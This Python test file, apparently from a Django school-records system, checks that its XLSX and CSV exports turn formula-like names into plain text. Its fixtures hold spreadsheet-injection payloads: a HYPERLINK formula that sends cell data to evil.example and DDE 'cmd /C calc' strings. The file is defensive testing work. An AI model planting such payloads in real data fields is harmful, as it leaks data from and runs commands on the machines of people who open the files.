"""No export runs what a user typed (issue #11, finding 7): a group, teacher,
pupil or school named like a formula is written as text in every XLSX (and CSV)
the system produces, the text kept as typed; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from security_helpers import force_login_verified

from recordpages.models import ProfessionalGroup, Pupil, School, SchoolYear, StaffProfile

pytestmark = pytest.mark.django_db

REPO = Path(__file__).resolve().parents[2]
HOSTILE = {
    "group": '=HYPERLINK("http://evil.example/?"&B3,"Tổ 1")',
    "teacher": "@SUM(1+1)*cmd|' /C calc'!A0",
    "pupil": "+Nguyễn Văn =A1",
    "school": "-2+3+cmd|' /C calc'!A0",
}
# Every module that writes a workbook, and how to get its files: a new one must be added here.
EXPORTERS = {"reports/exports.py", "archive/package_exports.py"}


@pytest.fixture
def hostile_district(district):
    school = School.objects.get(code="THAD")
    group = ProfessionalGroup.objects.filter(school=school).order_by("pk").first()
    ProfessionalGroup.objects.filter(pk=group.pk).update(name=HOSTILE["group"])
    StaffProfile.objects.filter(school=school, roles__code="teacher").update(
        full_name=HOSTILE["teacher"]
    )
    Pupil.objects.filter(school=school).update(full_name=HOSTILE["pupil"])
    School.objects.filter(pk=school.pk).update(name=HOSTILE["school"])
    return School.objects.get(pk=school.pk)


def _report_workbooks() -> dict[str, bytes]:
    out = {}
    for username in ("phong.gd", "ad.hieutruong"):
        client = Client()
        force_login_verified(client, get_user_model().objects.get(username=username))
        response = client.get(reverse("reports_admin:xlsx"))
        assert response.status_code == 200, username
        out[f"report as {username}"] = response.content
    return out


def _package_files(school: School) -> dict[str, bytes]:
    from archive.package import build_year_package

    year = SchoolYear.objects.order_by("-start_date").first()
    data, _manifest = build_year_package(school, year)
    with zipfile.ZipFile(io.BytesIO(data)) as bag:
        return {
            name: bag.read(name)
            for name in bag.namelist()
            if "/data/exports/" in name and name.endswith((".xlsx", ".csv"))
        }


def _cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_every_module_writing_a_workbook_is_walked_by_this_test():
    writers = {
        str(path.relative_to(REPO))
        for path in REPO.rglob("*.py")
        if not {".venv", "tests", "testdata", "node_modules"} & set(path.relative_to(REPO).parts)
        and re.search(r"\bWorkbook\(", path.read_text(encoding="utf-8"))
    }
    assert writers == EXPORTERS


def test_no_xlsx_export_writes_a_hostile_name_as_a_formula(hostile_district):
    files = _report_workbooks()
    files.update(
        (name, data)
        for name, data in _package_files(hostile_district).items()
        if name.endswith(".xlsx")
    )
    assert len(files) == 4
    found: set[str] = set()
    for name, data in files.items():
        cells = _cells(data)
        formulas = [f"{c.coordinate}={c.value!r}" for c in cells if c.data_type == "f"]
        assert formulas == [], f"{name}: {formulas}"
        texts = {c.value for c in cells if isinstance(c.value, str)}
        found |= {key for key, value in HOSTILE.items() if value in texts}
        if name.startswith("report"):  # counts and percentages are still numbers
            assert any(isinstance(c.value, int | float) for c in cells), name
    assert found == set(HOSTILE)


def test_csv_exports_neutralise_a_hostile_name_with_a_leading_apostrophe(hostile_district):
    files = _package_files(hostile_district)
    csvs = [data for name, data in files.items() if name.endswith(".csv")]
    assert len(csvs) == 2
    values = [
        value
        for data in csvs
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))
        for value in row
    ]
    assert "'" + HOSTILE["pupil"] in values
    assert not [v for v in values if v[:1] in ("=", "+", "@", "\t", "\r")]


def test_numbers_stay_numbers_and_hostile_text_stays_readable_text():
    from openpyxl import Workbook

    from recordpages.xlsx import safe_row

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(safe_row(sheet, [-5, -2.5, 0, "-3", "=1+1", "\tx", "Tổ 1", None]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = _cells(buffer.getvalue())
    assert [c.value for c in cells] == [-5, -2.5, 0, "-3", "=1+1", "\tx", "Tổ 1"]
    assert [c.data_type for c in cells] == ["n", "n", "n", "s", "s", "s", "s"]
